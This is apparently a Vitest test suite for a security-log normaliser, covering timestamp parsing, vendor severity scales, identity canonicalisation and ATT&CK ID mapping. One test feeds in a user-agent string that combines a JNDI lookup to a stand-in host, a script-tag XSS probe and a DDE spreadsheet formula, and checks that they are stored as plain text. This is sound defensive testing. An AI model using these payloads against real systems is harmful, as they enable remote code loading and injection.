import { describe, expect, it } from "vitest";
import { normalise } from "./normalise.ts";
import { keys, NOW, read as normal } from "./testing.ts";
import { techniqueIds } from "./techniques.ts";
import { readTime } from "./times.ts";
import { isUnknown } from "./values.ts";
import { severityOf } from "./vendor-severity.ts";

function read(value: unknown) {
  const record = normal(value);
  return { ...record, keys: keys(record) };
}

describe("4.1 time", () => {
  it("1: takes the zone of a local time from the receipt beside it", () => {
    const record = read({
      EventID: 4624,
      Channel: "Security",
      Hostname: "WORKSTATION6",
      EventTime: "2020-09-20 12:16:56",
      "@timestamp": "2020-09-20T16:16:58.795Z",
    });
    expect(record).toMatchObject({ time: "2020-09-20T16:16:56.000Z", timeQuality: "assumed_utc" });
    expect(record.timeOriginal).toBe("2020-09-20 12:16:56");
  });

  it("3: a late alert is dated by what it found, not by when it was made", () => {
    const record = read({
      SystemAlertId: "a",
      StartTime: "2024-06-14T00:00:00Z",
      TimeGenerated: "2024-07-04T00:00:00Z",
    });
    expect(record.time).toBe("2024-06-14T00:00:00.000Z");
  });

  it.each([
    ["2024-07-04 22:35:00.746663+00:00", "2024-07-04T22:35:00.746Z", "exact"],
    ["2021-08-02T13:11:39.7724491Z", "2021-08-02T13:11:39.772Z", "exact"],
    ["2021-08-02T13:11:39.21Z", "2021-08-02T13:11:39.210Z", "exact"],
    ["2023-05-25T13:44:05.478445995Z", "2023-05-25T13:44:05.478Z", "exact"],
    ["2018-10-30T09:56:07.459844+0100", "2018-10-30T08:56:07.459Z", "exact"],
    [1588205199.82437, "2020-04-30T00:06:39.824Z", "exact"],
    [1739539623, "2025-02-14T13:27:03.000Z", "exact"],
    ["1588205199824", "2020-04-30T00:06:39.824Z", "exact"],
    [1739178940698757000, "2025-02-10T09:15:40.698Z", "exact"],
    ["2/4/2021, 11:57:45.162 PM", "2021-02-04T23:57:45.162Z", "assumed_utc"],
    ["7/18/2019 16:08", "2019-07-18T16:08:00.000Z", "assumed_utc"],
    ["Jul 25 09:56:42", "2025-07-25T09:56:42.000Z", "assumed_year"],
    ["Mar  1 09:56:42", "2026-03-01T09:56:42.000Z", "assumed_year"],
    ["01/Nov/2020:10:43:07 +0000", "2020-11-01T10:43:07.000Z", "exact"],
    ["Thu Mar 16 03:08:58 2023 UTC", "2023-03-16T03:08:58.000Z", "exact"],
    ["audit(1551485405.594:7507)", "2019-03-02T00:10:05.594Z", "exact"],
    ["2020-10-19 03:30:41.104", "2020-10-19T03:30:41.104Z", "assumed_utc"],
    ["11/06/2026, 08:18:17.083", null, "missing"],
    ["1.61248E+12", null, "missing"],
    ["{timestamp}", null, "missing"],
    ["2021-04-13T20:58:00.746609046Z+2", null, "missing"],
    ["2021-02-30T00:00:00Z", null, "missing"],
    ["", null, "missing"],
  ])("4: %s", (value, iso, quality) => {
    const moment = readTime(value, NOW);
    expect([moment.iso, moment.quality]).toEqual([iso, quality]);
    expect(moment.original).toBe(value === "" ? null : String(value));
  });
});

describe("4.2 container and encoding", () => {
  it("6: reads an event inside an envelope", () => {
    const event = { EventID: 1, Channel: "Microsoft-Windows-Sysmon/Operational", Computer: "WS1" };
    expect(read({ body: JSON.stringify(event) }).format).toBe("windows-event");
    expect(read({ collection_time: "x", data: JSON.stringify(event) }).format).toBe(
      "windows-event",
    );
    expect(read({ preview: false, result: { _raw: JSON.stringify(event) } }).format).toBe(
      "windows-event",
    );
  });

  it("8: reads a key in either case once", () => {
    const record = read({
      event_simpleName: "ProcessRollup2",
      event_simplename: "ProcessRollup2",
      aid: "1",
    });
    expect(record.fields.action).toBe("ProcessRollup2");
    const finding = {
      Type: "Recon:EC2/Portscan",
      Severity: 8,
      Title: "Scan",
      Id: "g1",
      Region: "eu-west-1",
    };
    expect(read(finding)).toMatchObject({ kind: "alert", severity: "high", recordId: null });
    expect(
      read({ type: "Recon:EC2/Portscan", severity: 8, title: "Scan", id: "g1" }).severity,
    ).toBe("high");
  });

  it("9: shows NUL and broken UTF-8 escaped", () => {
    const record = read('{"kind":"event","title":"a\\u0000b","host":"h\\ud800x"}');
    expect(record.title).toBe("a\u2400b");
    expect(record.fields.host).toBe("h\ufffdx");
    const broken = Uint8Array.of(...Buffer.from('{"title":"caf'), 0xe9, ...Buffer.from('"}'));
    const result = normalise(broken, "auto");
    expect(result.ok && result.record.title).toBe("caf\ufffd");
  });

  it("11: keeps a title on one line", () => {
    expect(read({ kind: "event", title: "a\r\n\tb\u001b[31m" }).title).toBe("a b [31m");
  });
});

describe("4.3 meaning", () => {
  it.each([
    [1, "suricata", "high"],
    [3, "suricata", "low"],
    [8.9, "guardduty", "high"],
    [9, "guardduty", "critical"],
    [0.5, "guardduty", "informational"],
    ["Very-High", "cef", "critical"],
    ["10", "cef", "critical"],
    ["", "cef", null],
    [15, "wazuh", "critical"],
    [3, "wazuh", "informational"],
    [21, "elastic-risk", "low"],
    [47, "elastic-risk", "medium"],
    [73, "elastic-risk", "high"],
    [99, "elastic-risk", "critical"],
    [6, "ocsf", "critical"],
    [99, "ocsf", null],
    [0, "ocsf", null],
    ["Warning", "words", "low"],
  ] as const)("13: %s on the scale of %s", (value, scale, severity) => {
    expect(severityOf(value, scale)).toBe(severity);
  });

  it("13: telemetry has no severity, whatever it claims", () => {
    const windows = read({ EventID: 1, Channel: "x", Severity: "ERROR", Level: "2" });
    expect([windows.severity, windows.fields.severity]).toEqual([null, undefined]);
  });

  it("14: a record without number has no id of its own", () => {
    expect(read({ EventID: 1, Channel: "Security", Hostname: "WS1" }).recordId).toBeNull();
  });

  it("15: one host under three spellings, one user under four", () => {
    const host = (name: string) => read({ kind: "event", title: "t", host: name }).keys;
    expect(host("WORKSTATION6")).toEqual(["host:workstation6"]);
    expect(host("workstation6.theshire.local")).toEqual(["host:workstation6"]);
    const user = (name: string) => read({ kind: "event", title: "t", user: name }).keys;
    for (const name of ["THESHIRE\\PGustavo", "pgustavo", "pgustavo@theshire.local"]) {
      expect(user(name)).toContain("user:pgustavo");
    }
    for (const name of ["WS1$", "NT AUTHORITY\\SYSTEM", "S-1-5-18", "-", "N/A", "DWM-1"]) {
      expect(user(name)).toEqual([]);
    }
  });

  it("16: placeholders are unknown and tie nothing together", () => {
    const unknown = ["-", "N/A", "(empty)", "null", "", "?", "0.0.0.0", "::1", "fe80::"];
    for (const value of [...unknown, "00000000-0000-0000-0000-000000000000", "<finding_uid>"]) {
      expect(isUnknown(value)).toBe(true);
    }
    for (const ip of ["1.2.3.4", "127.0.0.1", "fe80::1", "224.0.0.251", "0.0.0.0", "::1"]) {
      expect(read({ kind: "event", title: "t", "source.ip": ip }).keys).toEqual([]);
    }
    expect(
      read({ kind: "event", title: "t", "source.ip": "-" }).fields["source.ip"],
    ).toBeUndefined();
    expect(read({ kind: "event", title: "t", "source.ip": "[2001:DB8::1]:443" }).keys).toEqual([
      "ip:2001:db8::1",
    ]);
  });

  it("19: what was tried is not what was done", () => {
    const trail = (extra: object) =>
      read({
        eventName: "StopLogging",
        eventSource: "x",
        awsRegion: "r",
        eventTime: "2026-03-01T00:00:00Z",
        ...extra,
      }).fields.outcome;
    expect(trail({ errorCode: "AccessDeniedException" })).toBe("failure");
    expect(trail({})).toBe("success");
    expect(
      trail({ eventName: "ConsoleLogin", responseElements: { ConsoleLogin: "Failure" } }),
    ).toBe("failure");
  });

  it.each([
    ["T1086", ["T1059.001"]],
    ["T1178", ["T1134.005"]],
    ["TA0006:T1110.003", ["T1110.003"]],
    ["T1059.001 - PowerShell", ["T1059.001"]],
    ["T0000", []],
    ["CSTA0005", []],
    ["CST0012", []],
  ])("20: %s", (tag, ids) => {
    expect(techniqueIds([tag])).toEqual(ids);
  });

  it("21: hostile text is kept as text and nothing else", () => {
    const agent = "${jndi:ldap://x.example/a} <script>alert(1)</script> =cmd|'/c calc'!A1";
    const record = read({ kind: "event", title: "t", user_agent: agent });
    expect(record.fields.user_agent).toBe(agent);
  });
});
